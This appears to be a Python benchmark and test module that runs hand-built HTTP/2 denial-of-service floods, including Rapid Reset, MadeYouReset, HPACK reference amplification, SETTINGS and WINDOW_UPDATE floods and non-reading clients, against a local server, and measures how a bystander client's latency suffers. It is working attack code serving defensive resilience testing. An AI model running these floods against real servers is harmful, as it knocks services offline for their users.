"""HTTP/2 attacks on a server over real sockets (h2c, or TLS with ALPN h2): issue 25's list, each a
function that runs one attacker for a while and reports what the server did with it. Used by
`python -m bench.h2_hostile` (the figures beside nginx's in docs/http2.md) and by the heavy tests
(tests/test_h2_live_attacks.py). Frames are written by hand (no client library would send
these); only static HPACK entries and literals, so no encoder state is needed.

Every attacker reads what the server sends on a thread of its own (and drops it), except the
non-readers, whose point is not to; "closed after" is when the server ended the connection.
"""

from __future__ import annotations

import multiprocessing
import queue
import select
import socket
import ssl
import struct
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field

from bench.tls import client_context

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 2, 3, 4, 6, 7, 8
END_STREAM, ACK, END_HEADERS, PADDED = 0x1, 0x1, 0x4, 0x8
INITIAL_WINDOW_SIZE = 0x4


def frame(kind: int, flags: int, sid: int, payload: bytes = b"") -> bytes:
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes((kind, flags))
        + struct.pack(">I", sid)
        + payload
    )


def integer(value: int, prefix_bits: int, first: int = 0) -> bytes:
    """RFC 7541 §5.1."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes((first | value,))
    out = bytearray((first | limit,))
    value -= limit
    while value >= 0x80:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal(name_index: int, value: bytes) -> bytes:
    """A literal without indexing, name from the static table."""
    return integer(name_index, 4) + integer(len(value), 7) + value


def indexed_literal(name: bytes, value: bytes) -> bytes:
    """A literal with incremental indexing and a new name: it enters the dynamic table."""
    return b"\x40" + integer(len(name), 7) + name + integer(len(value), 7) + value


def request_block(method: bytes = b"GET", path: bytes = b"/", tls: bool = False) -> bytes:
    """:method (GET is static 2), :scheme, :path, :authority, with no dynamic table."""
    block = b"\x82" if method == b"GET" else literal(2, method)
    block += b"\x87" if tls else b"\x86"
    block += b"\x84" if path == b"/" else literal(4, path)
    return block + literal(1, b"localhost")


def settings(values: dict[int, int] | None = None) -> bytes:
    body = b"".join(struct.pack(">HL", k, v) for k, v in (values or {}).items())
    return frame(SETTINGS, 0, 0, body)


def window_update(sid: int, increment: int) -> bytes:
    return frame(WINDOW_UPDATE, 0, sid, struct.pack(">L", increment))


def connect(port: int, tls: bool, timeout: float = 10.0) -> socket.socket:
    raw = socket.create_connection(("127.0.0.1", port), timeout=timeout)
    raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if not tls:
        return raw
    sock = client_context(("h2",)).wrap_socket(raw)
    if sock.selected_alpn_protocol() != "h2":
        raise RuntimeError("the server did not choose h2")
    return sock


@dataclass
class Outcome:
    """What one attacker saw: when the server closed (None: still open at the end), how many
    frames it sent, and the GOAWAY code if one came."""

    closed_after: float | None = None
    sent_frames: int = 0
    goaway: int | None = None
    notes: dict[str, str] = field(default_factory=dict)


class SerialTLS:
    """A TLS socket shared by a reader and a writer thread. OpenSSL's SSL object must not be used
    by two threads at once, and CPython releases the GIL inside SSL_read and SSL_write: with a
    blocking recv in one thread and a sendall in the other, about one TLS flood in three ended
    1-5 ms in without the server's GOAWAY, sometimes before a frame was sent (the client's own
    SSL state broke, not the server). Every call on the SSL object holds a lock here; waiting
    for the socket happens outside it."""

    def __init__(self, sock: ssl.SSLSocket) -> None:
        sock.setblocking(False)
        self.sock = sock
        self.lock = threading.Lock()

    def recv(self, size: int) -> bytes:
        while True:
            with self.lock:
                try:
                    return self.sock.recv(size)
                except (ssl.SSLWantReadError, BlockingIOError):
                    writing = False
                except ssl.SSLWantWriteError:
                    writing = True
            if writing:
                select.select([], [self.sock], [], 0.05)
            else:
                select.select([self.sock], [], [], 0.05)

    def sendall(self, data: bytes) -> None:
        while data:
            with self.lock:
                try:
                    data = data[self.sock.send(data) :]
                    continue
                except (ssl.SSLWantWriteError, BlockingIOError):
                    reading = False
                except ssl.SSLWantReadError:
                    reading = True
            # (the same bytes again: CPython sets SSL_MODE_ACCEPT_MOVING_WRITE_BUFFER)
            if reading:
                select.select([self.sock], [], [], 0.05)
            else:
                select.select([], [self.sock], [], 0.05)

    def close(self) -> None:
        with self.lock:
            self.sock.close()


class Drain:
    """Reads (and drops) what the server sends, acknowledging its SETTINGS and giving back the
    connection window its DATA used (as any client would, so that answers keep coming); notes a
    GOAWAY and the moment the connection ended."""

    def __init__(self, sock: socket.socket) -> None:
        self.sock: socket.socket | SerialTLS = (
            SerialTLS(sock) if isinstance(sock, ssl.SSLSocket) else sock
        )
        self.started = time.monotonic()
        self.ended: float | None = None
        self.goaway: int | None = None
        self.received = 0
        self.lock = threading.Lock()
        self.replies: list[bytes] = []  # SETTINGS ACKs and WINDOW_UPDATEs for the writer to send
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _run(self) -> None:
        buf = b""
        owed = 0
        try:
            while True:
                chunk = self.sock.recv(262144)
                if not chunk:
                    break
                self.received += len(chunk)
                buf += chunk
                pos = 0
                end = len(buf)
                while end - pos >= 9:
                    length = int.from_bytes(buf[pos : pos + 3], "big")
                    if end - pos < 9 + length:
                        break
                    kind, flags = buf[pos + 3], buf[pos + 4]
                    if kind == GOAWAY and self.goaway is None:
                        self.goaway = int.from_bytes(buf[pos + 13 : pos + 17], "big")
                    if kind == SETTINGS and not flags & ACK:
                        self.reply(frame(SETTINGS, ACK, 0))
                    elif kind == DATA:
                        owed += length
                    pos += 9 + length
                buf = buf[pos:]
                if owed >= 32768:
                    self.reply(window_update(0, owed))
                    owed = 0
        except (OSError, ValueError):
            pass
        self.ended = time.monotonic()

    def reply(self, data: bytes) -> None:
        """Queued for the writer (this thread never writes: the writer may be blocked in a
        sendall that waits for this thread to read)."""
        with self.lock:
            self.replies.append(data)

    def send(self, data: bytes) -> bool:
        with self.lock:
            replies = b"".join(self.replies)
            self.replies.clear()
        try:
            self.sock.sendall(replies + data)
            return True
        except (OSError, ValueError):
            return False

    def outcome(self, sent: int) -> Outcome:
        ended = self.ended
        return Outcome(None if ended is None else ended - self.started, sent, self.goaway)


def flood(
    port: int,
    tls: bool,
    seconds: float,
    opening: bytes,
    batch: Callable[[int], bytes],
    frames_per_batch: int,
) -> Outcome:
    """Open a connection, write `opening`, then `batch(n)` for n = 0, 1, ... until the server
    closes or `seconds` pass."""
    sock = connect(port, tls)
    drain = Drain(sock)
    sent = 0
    try:
        if drain.send(PREFACE + settings() + opening):
            deadline = time.monotonic() + seconds
            n = 0
            while time.monotonic() < deadline and drain.ended is None:
                if not drain.send(batch(n)):
                    break
                sent += frames_per_batch
                n += 1
        drain.thread.join(timeout=max(0.0, 2.0 if drain.ended is None else 0.0))
        return drain.outcome(sent)
    finally:
        sock.close()


# -- the attacks --------------------------------------------------------------------------------


def window_update_with_held_answers(port: int, tls: bool, seconds: float) -> Outcome:
    """Issue 25 #2: 100 answers held by a zero stream window, then WINDOW_UPDATE(0, 1) floods."""
    block = request_block(tls=tls)
    opening = settings({INITIAL_WINDOW_SIZE: 0}) + b"".join(
        frame(HEADERS, END_STREAM | END_HEADERS, sid, block) for sid in range(1, 200, 2)
    )
    one = window_update(0, 1)
    return flood(port, tls, seconds, opening, lambda n: one * 4000, 4000)


def header_references(port: int, tls: bool, seconds: float, entry: int = 960) -> Outcome:
    """Issue 25 #3: a dynamic-table entry of `entry` bytes, then requests of 15 one-byte
    references to it with a :path of their own (nothing a cache could remember); GOAWAY(NO_ERROR)
    and the next connection when the server's stream ids or max_requests run out."""
    first = frame(
        HEADERS,
        END_STREAM | END_HEADERS,
        1,
        request_block(tls=tls) + indexed_literal(b"x-ref", b"r" * (entry - 37)),
    )
    scheme = b"\x87" if tls else b"\x86"

    def make(n: int) -> bytes:
        base = 3 + 200 * n
        return b"".join(
            frame(
                HEADERS,
                END_STREAM | END_HEADERS,
                sid,
                b"\x82"
                + scheme
                + literal(4, b"/%d" % sid)
                + literal(1, b"localhost")
                + b"\xbe" * 15,
            )
            for sid in range(base, base + 200, 2)
        )

    # Made before the flood, so that the attacker spends its time sending.
    batches = [make(n) for n in range(1000)]
    return flood(port, tls, seconds, first, lambda n: batches[n % len(batches)], 100)


def large_settings(port: int, tls: bool, seconds: float) -> Outcome:
    """Issue 25 #4: 100 open streams (a body is announced), then SETTINGS frames of 2,730
    INITIAL_WINDOW_SIZE entries."""
    block = request_block(b"POST", tls=tls) + literal(28, b"10")
    opening = b"".join(frame(HEADERS, END_HEADERS, sid, block) for sid in range(1, 200, 2))
    entries = [
        b"".join(struct.pack(">HL", INITIAL_WINDOW_SIZE, 65535 + (i + k) % 2) for i in range(2730))
        for k in range(2)
    ]
    big = [frame(SETTINGS, 0, 0, e) for e in entries]
    return flood(port, tls, seconds, opening, lambda n: big[n % 2] * 4, 4)


def window_updates_alone(port: int, tls: bool, seconds: float) -> Outcome:
    """Issue 25 #5: WINDOW_UPDATE(0, 1), nothing else."""
    one = window_update(0, 1)
    return flood(port, tls, seconds, b"", lambda n: one * 4000, 4000)


def padded_empty_data(port: int, tls: bool, seconds: float) -> Outcome:
    """Issue 25 #5: a stream whose body never comes, then DATA frames of padding only."""
    opening = frame(HEADERS, END_HEADERS, 1, request_block(b"POST", tls=tls))
    empty = frame(DATA, PADDED, 1, b"\x00")
    return flood(port, tls, seconds, opening, lambda n: empty * 4000, 4000)


def made_you_reset(port: int, tls: bool, seconds: float) -> Outcome:
    """Issue 25 #6, CVE-2025-8671: streams the server resets itself (WINDOW_UPDATE of 0)."""
    block = request_block(b"POST", tls=tls) + literal(28, b"10")

    def batch(n: int) -> bytes:
        base = 1 + 2000 * n
        return b"".join(
            frame(HEADERS, END_HEADERS, sid, block) + window_update(sid, 0)
            for sid in range(base, base + 2000, 2)
        )

    return flood(port, tls, seconds, b"", batch, 2000)


def rapid_reset(port: int, tls: bool, seconds: float) -> Outcome:
    """CVE-2023-44487, for reference: streams opened and reset by the client."""
    block = request_block(tls=tls)

    def batch(n: int) -> bytes:
        base = 1 + 2000 * n
        return b"".join(
            frame(HEADERS, END_STREAM | END_HEADERS, sid, block)
            + frame(RST_STREAM, 0, sid, struct.pack(">L", 8))
            for sid in range(base, base + 2000, 2)
        )

    return flood(port, tls, seconds, b"", batch, 2000)


def header_references_4k(port: int, tls: bool, seconds: float) -> Outcome:
    return header_references(port, tls, seconds, entry=3960)


def big_reads(port: int, tls: bool, seconds: float) -> Outcome:
    """Not an attack: a client that writes 5,000 HEAD requests at once (64 KiB, one read for the
    server) and reads every answer, again and again. Each such read owes about 40 batches of
    answers; the bystander's p99 shows how long they hold the loop (docs/http2.md)."""
    sock = connect(port, tls)
    block = request_block(b"HEAD", tls=tls)
    one = frame(HEADERS, END_STREAM | END_HEADERS, 0, block)
    started = time.monotonic()
    deadline = started + seconds
    sid = 1
    sent = 0
    closed = None
    try:
        sock.sendall(PREFACE + settings())
        buf = b""
        while time.monotonic() < deadline and sid < 2**31 - 20_000:
            burst = b"".join(
                one[:5] + struct.pack(">I", s) + one[9:] for s in range(sid, sid + 10_000, 2)
            )
            sock.sendall(burst)
            sent += 5000
            last = sid + 9_998
            sid += 10_000
            done = False
            while not done:
                chunk = sock.recv(262144)
                if not chunk:
                    closed = time.monotonic() - started
                    return Outcome(closed, sent)
                buf += chunk
                pos, end = 0, len(buf)
                while end - pos >= 9:
                    length = int.from_bytes(buf[pos : pos + 3], "big")
                    if end - pos < 9 + length:
                        break
                    stream = int.from_bytes(buf[pos + 5 : pos + 9], "big") & 0x7FFFFFFF
                    if buf[pos + 3] == SETTINGS and not buf[pos + 4] & ACK:
                        sock.sendall(frame(SETTINGS, ACK, 0))
                    if stream == last and buf[pos + 4] & END_STREAM:
                        done = True
                    pos += 9 + length
                buf = buf[pos:]
    except OSError:
        closed = time.monotonic() - started
    finally:
        sock.close()
    return Outcome(closed, sent)


FLOODS: dict[str, Callable[[int, bool, float], Outcome]] = {
    "wu-held": window_update_with_held_answers,
    "references": header_references,
    "references-4k": header_references_4k,
    "settings-large": large_settings,
    "wu-alone": window_updates_alone,
    "padded-data": padded_empty_data,
    "madeyoureset": made_you_reset,
    "rapid-reset": rapid_reset,
    "big-reads": big_reads,
}


def non_readers(
    port: int, tls: bool, connections: int, method: bytes = b"HEAD"
) -> list[socket.socket]:
    """Issue 25 #1: `connections` clients that send requests until the kernel takes no more and
    never read. Returns the sockets (the caller measures, then closes them)."""
    one = frame(HEADERS, END_STREAM | END_HEADERS, 0, request_block(method, tls=tls))
    socks: list[socket.socket] = []
    for _ in range(connections):
        sock = connect(port, tls)
        sock.sendall(PREFACE + settings())
        sock.setblocking(False)
        socks.append(sock)
    next_sid = [1] * connections
    blocked: set[int] = set()
    deadline = time.monotonic() + 60
    while len(blocked) < connections and time.monotonic() < deadline:
        for i, sock in enumerate(socks):
            if i in blocked:
                continue
            sid = next_sid[i]
            burst = b"".join(
                one[:5] + struct.pack(">I", s) + one[9:] for s in range(sid, sid + 10000, 2)
            )
            try:
                sent = sock.send(burst)
            except (BlockingIOError, ssl.SSLWantWriteError):
                blocked.add(i)
                continue
            except OSError:
                blocked.add(i)
                continue
            if sent < len(burst):
                blocked.add(i)  # a partial frame ends this client's requests: it is blocked now
            next_sid[i] = sid + 10000
        time.sleep(0.01)
    return socks


class Bystander:
    """A normal HTTP/2 client beside the attack: sequential GETs on one connection, each one's
    latency in ms; a GET that gets no answer within `timeout` counts as that long and ends it.
    It runs in a process of its own, so that the attacker's Python does not delay it."""

    def __init__(self, port: int, tls: bool, timeout: float = 10.0) -> None:
        self.port = port
        self.tls = tls
        self.timeout = timeout
        self.latencies: list[float] = []
        self.failed = False
        context = multiprocessing.get_context("fork")
        self._stop = context.Event()
        self._results = context.Queue()
        self.process = context.Process(target=self._child, daemon=True)

    def __enter__(self) -> Bystander:
        self.process.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        try:
            self.latencies, self.failed = self._results.get(timeout=self.timeout + 5)
        except queue.Empty:
            self.failed = True
        self.process.join(timeout=5)

    def _child(self) -> None:
        self._run()
        self._results.put((self.latencies, self.failed))

    def _run(self) -> None:
        while not self._stop.is_set():
            try:
                sock = connect(self.port, self.tls, self.timeout)
            except OSError:
                self.failed = True
                return
            try:
                if not self._serve(sock):
                    return
            finally:
                sock.close()

    def _serve(self, sock: socket.socket) -> bool:
        """GETs on one connection until a GOAWAY (then True: open another) or a failure."""
        block = request_block(tls=self.tls)
        buf = b""
        owed = 0  # DATA bytes not yet given back to the connection window
        sid = 1
        try:
            sock.sendall(PREFACE + settings())
            while not self._stop.is_set():
                started = time.perf_counter()
                sock.sendall(frame(HEADERS, END_STREAM | END_HEADERS, sid, block))
                done = False
                while not done:
                    while len(buf) >= 9 and len(buf) >= 9 + int.from_bytes(buf[:3], "big"):
                        length = int.from_bytes(buf[:3], "big")
                        kind, flags = buf[3], buf[4]
                        stream = int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF
                        if kind == SETTINGS and not flags & ACK:
                            sock.sendall(frame(SETTINGS, ACK, 0))
                        elif kind == DATA:
                            owed += length
                        elif kind == GOAWAY:
                            last = int.from_bytes(buf[9:13], "big") & 0x7FFFFFFF
                            if last < sid:
                                return True  # not going to be answered here: next connection
                        if stream == sid and kind in (DATA, HEADERS) and flags & END_STREAM:
                            done = True
                        buf = buf[9 + length :]
                    if done:
                        break
                    chunk = sock.recv(65536)
                    if not chunk:
                        return True  # closed after a GOAWAY that named this stream
                    buf += chunk
                self.latencies.append((time.perf_counter() - started) * 1000)
                if owed >= 32768:
                    sock.sendall(window_update(0, owed))
                    owed = 0
                sid += 2
        except OSError:
            if not self._stop.is_set():
                self.failed = True
                self.latencies.append(self.timeout * 1000)
            return False
        return False

    def p99(self) -> float:
        ordered = sorted(self.latencies) or [float("nan")]
        return ordered[min(len(ordered) - 1, int(len(ordered) * 0.99))]
